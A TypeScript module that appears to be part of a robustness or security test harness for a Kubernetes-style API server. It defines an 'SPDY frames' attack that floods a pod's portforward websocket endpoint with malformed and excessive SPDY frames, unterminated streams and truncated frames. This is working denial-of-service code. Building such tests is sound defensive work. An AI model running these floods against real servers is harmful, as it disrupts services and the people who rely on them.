import { dataFrame } from "../../../../actors/apiserver/streams/spdy/frames.ts";
import { bytes32, controlFrame, createSpdyClient } from "../../apiserver/spdy_client.ts";
import type { Attack } from "../attack.ts";
import { floodWebSockets, frame, runPod } from "../web_socket.ts";

const client = createSpdyClient();
const headers = (index: number) => ({
  streamtype: index % 2 === 0 ? "error" : "data",
  port: "80",
  requestid: `${index >> 1}`,
});
const streams = Array.from({ length: 5_000 }, (_none, index) => client.synStream(2 * index + 1, headers(index))).join(
  "",
);
const says = [
  /* Streams without end. */ streams,
  /* Windows, settings, pings. */ controlFrame(9, bytes32(1) + bytes32(0x7fff_ffff)).repeat(10_000),
  controlFrame(4, bytes32(1) + bytes32(7) + bytes32(0)).repeat(10_000),
  controlFrame(6, bytes32(1)).repeat(20_000),
  /* Bytes for nobody: eight of them are a frame. */ dataFrame(9, "", false).repeat(100_000),
  /* What is no SPDY. */ "GET / HTTP/1.1\r\n".repeat(1_000),
  controlFrame(1, "\xff".repeat(60_000)),
  /* A frame as long as can be said, which never is whole. */ "\0\0\0\x01\0\xff\xff\xff",
];

/** Everything that SPDY's frames can be and should not. */
export const spdyFrames: Attack = {
  name: "SPDY frames",
  who: "admin",
  async run(attacker) {
    const pod = await runPod(attacker.target, attacker.signal);
    const messages = says.map((text) => frame(text));
    await floodWebSockets(attacker, {
      count: 2 * says.length,
      path: `${pod}/portforward`,
      protocol: "SPDY/3.1+portforward.k8s.io",
      says: (index) => messages[index % messages.length] as Buffer,
    });
  },
};
